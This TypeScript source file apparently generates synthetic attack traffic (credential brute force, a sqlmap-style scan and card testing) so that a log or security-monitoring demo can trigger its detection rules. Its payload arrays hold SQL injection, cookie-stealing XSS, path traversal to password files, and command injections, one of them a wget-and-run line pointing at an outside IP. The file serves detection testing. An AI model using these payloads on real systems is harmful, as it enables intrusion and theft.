/** Attackers: a credential brute force on the login endpoint, a sqlmap scan from IPv6, card testing on the shop. */
import { ipv4, type Builder, type Conn } from '../builder';
import { DEMO, MIN } from '../model';

const SCAN_PREFIXES = ['', '/admin', '/api', '/api/v1', '/backup', '/old', '/test', '/dev', '/static', '/cgi-bin'];
const SCAN_WORDS = [
  '.env',
  '.git/config',
  '.git/HEAD',
  '.svn/entries',
  '.htaccess',
  '.DS_Store',
  'config.php',
  'config.json',
  'config.yml',
  'phpinfo.php',
  'info.php',
  'wp-login.php',
  'wp-config.php.bak',
  'xmlrpc.php',
  'backup.sql',
  'db.sql',
  'dump.sql',
  'database.zip',
  'site.tar.gz',
  'web.config',
  'server-status',
  'actuator/env',
  'actuator/heapdump',
  'swagger.json',
  'openapi.yaml',
  'graphql',
  'console',
  'debug/pprof',
  'phpmyadmin/index.php',
  'jmx-console',
  'manager/html',
  'login.action',
  'id_rsa',
  'credentials.json',
  'docker-compose.yml',
];

const SQLI = [
  "1' OR '1'='1",
  '1 UNION SELECT username,password FROM users--',
  '1; DROP TABLE users--',
  "1' AND SLEEP(5)--",
];
const XSS = ['<script>alert(1)</script>', '"><img src=x onerror=alert(document.cookie)>', "javascript:alert('x')"];
const RCE = [';cat /etc/passwd', '$(id)', '|wget http://198.51.100.9/x.sh|sh', '`uname -a`'];
const TRAVERSAL = ['../../../../etc/passwd', '..%2f..%2f..%2fetc%2fshadow', '....//....//windows/win.ini'];

/** Credential brute force: 230 failed logins from one IP + UA, flagged after a while, then blocked. */
export function bruteForce(b: Builder, nodeOf: () => string): void {
  const rng = b.rng;
  const span = b.end - b.start;
  const c: Conn = {
    host: DEMO.apiHost,
    app: 'public-api',
    client_ip: DEMO.bruteForceIp,
    user_agent: DEMO.bruteForceUa,
    node: nodeOf(),
    protocol: 'HTTP/1.1',
  };
  const failures = 230;
  const blockedAfter = 40;
  const total = failures + blockedAfter;
  // Gaps 1–5 s (~13 min in all); compressed when the window is very short so the whole attack fits.
  const scale = Math.min(1, (span * 0.3) / (total * 3_000));
  let t = b.start + span * 0.55;
  for (let k = 0; k < total; k++) {
    const flagged = k >= 60;
    if (k < failures) {
      b.add(
        'brute_force',
        t,
        c,
        {
          method: 'POST',
          path: DEMO.loginPath,
          status: 401,
          endpoint: DEMO.loginPath,
          duration_ms: rng.lognormal(110, 0.25, 40, 600),
          request_bytes: rng.int(380, 460),
          response_bytes: rng.int(60, 90),
          attacks: flagged ? [{ type: 'brute_force', blocked: false, rule: 'bf-login-20-per-min' }] : undefined,
        },
        'write',
      );
    } else {
      b.add(
        'brute_force',
        t,
        c,
        {
          method: 'POST',
          path: DEMO.loginPath,
          status: 403,
          endpoint: DEMO.loginPath,
          duration_ms: rng.lognormal(1.5, 0.3, 0.3, 10),
          request_bytes: rng.int(380, 460),
          response_bytes: rng.int(150, 200),
          attacks: [{ type: 'brute_force', blocked: true, rule: 'bf-login-20-per-min' }],
          blocked: true,
        },
        'error',
      );
    }
    t += rng.int(1_000, 5_000) * scale;
  }
}

/** sqlmap from an IPv6 address: hundreds of probed paths, injection payloads, some blocked by the WAF. */
export function scanner(b: Builder, nodeOf: () => string): void {
  const rng = b.rng;
  const span = b.end - b.start;
  const c: Conn = {
    host: DEMO.apiHost,
    app: 'public-api',
    client_ip: DEMO.scannerIp,
    user_agent: DEMO.scannerUa,
    node: nodeOf(),
    protocol: 'HTTP/1.1',
  };
  const shop: Conn = { ...c, host: DEMO.shopHost, app: 'shop' };
  const scale = Math.min(1, (span * 0.25) / (600 * 1_500));
  let t = b.start + span * 0.7;
  const step = () => (t += rng.int(200, 2_800) * scale);
  // Phase 1: content discovery (the "scanner" attack type), on both hosts, at a tool's pace (several per second,
  // so one session requests well over 50 distinct endpoints within 5 minutes: the forced-browsing alert rule).
  const paths: string[] = [];
  for (const p of SCAN_PREFIXES) for (const w of SCAN_WORDS) paths.push(`${p}/${w}`);
  for (const path of paths) {
    const blocked = rng.chance(0.15);
    const found = !blocked && rng.chance(0.03);
    b.add(
      'scanner',
      t,
      rng.chance(0.7) ? c : shop,
      {
        method: rng.chance(0.9) ? 'GET' : 'HEAD',
        path,
        status: blocked ? 403 : found ? 200 : 404,
        attacks: [{ type: 'scanner', blocked, rule: 'scanner-ua-sqlmap' }],
        blocked,
        duration_ms: blocked ? rng.lognormal(1.2, 0.3, 0.2, 8) : undefined,
      },
      'error',
    );
    t += rng.int(100, 700) * scale;
  }
  // Phase 2: injection payloads on real endpoints.
  const targets = [
    ['/api/v1/products', 'category'],
    ['/api/v1/orders', 'status'],
    ['/api/v1/customers', 'email'],
    ['/api/v1/search', 'q'],
    ['/api/v1/reports', 'format'],
  ] as const;
  const kinds = [
    ['sqli', SQLI, 'sqli-generic-'],
    ['xss', XSS, 'xss-reflected-'],
    ['rce', RCE, 'rce-shell-'],
  ] as const;
  for (let k = 0; k < 220; k++) {
    const [ep, param] = rng.pick(targets);
    const [type, payloads, rulePrefix] = rng.pick(kinds);
    const blocked = rng.chance(0.55);
    b.add(
      'scanner',
      t,
      c,
      {
        method: rng.chance(0.8) ? 'GET' : 'POST',
        path: `${ep}?${param}=${encodeURIComponent(rng.pick(payloads))}`,
        status: blocked
          ? 403
          : rng.weighted([
              [400, 5],
              [200, 3],
              [500, 1],
            ] as const),
        endpoint: ep,
        attacks: [{ type, blocked, rule: `${rulePrefix}${rng.int(100, 199)}` }],
        blocked,
        duration_ms: blocked ? rng.lognormal(1.5, 0.3, 0.2, 8) : rng.lognormal(60, 0.8, 5, 5_000),
      },
      blocked ? 'error' : 'api',
    );
    step();
  }
  // Phase 3: path traversal on the static file route.
  for (let k = 0; k < 40; k++) {
    const blocked = rng.chance(0.6);
    const payload = rng.pick(TRAVERSAL);
    b.add(
      'scanner',
      t,
      shop,
      {
        method: 'GET',
        path: `/static/download?file=${encodeURIComponent(payload)}`,
        status: blocked ? 403 : rng.chance(0.8) ? 400 : 200,
        attacks: [{ type: 'path_traversal', blocked, rule: 'ptrav-dotdot' }],
        blocked,
      },
      blocked ? 'error' : 'api',
    );
    step();
  }
}

/**
 * Card testing: scripted sessions that POST /api/checkout again and again with stolen card numbers (mostly 402),
 * without ever adding an item to the cart — a skipped step (`skipped_step` with `/api/checkout` after
 * `/api/cart/items*`). One session about every two hours, each on its own cookie and IP, the last one ending a few
 * minutes before the end of the window so the provisioned rule fires right after `npm start`.
 */
export function cardTesting(b: Builder, nodeOf: () => string): void {
  const rng = b.rng;
  const span = b.end - b.start;
  const sessions = Math.max(2, Math.round(span / (2 * 60 * MIN)));
  for (let k = 0; k < sessions; k++) {
    const c: Conn = {
      host: DEMO.shopHost,
      app: 'shop',
      client_ip: ipv4(rng),
      user_agent: DEMO.cardTestingUa,
      node: nodeOf(),
      protocol: 'HTTP/2',
      identifiers: { cookies: { PHPSESSID: rng.chars('abcdefghijklmnopqrstuv0123456789', 26) } },
    };
    const attempts = rng.int(4, 7);
    // Ends 3–8 minutes before the session's slot (the last slot is the window's end); 8–30 s between attempts.
    let t = b.start + (span * (k + 1)) / sessions - rng.int(3, 8) * MIN - attempts * 30_000;
    for (let i = 0; i < attempts; i++) {
      const charged = i === attempts - 1 && rng.chance(0.5);
      b.add(
        'card_testing',
        t,
        c,
        {
          method: 'POST',
          path: DEMO.checkoutEndpoint,
          status: charged ? 200 : 402,
          endpoint: DEMO.checkoutEndpoint,
          duration_ms: rng.lognormal(650, 0.4, 150, 6000),
        },
        'write',
      );
      t += rng.int(8_000, 30_000);
    }
  }
}
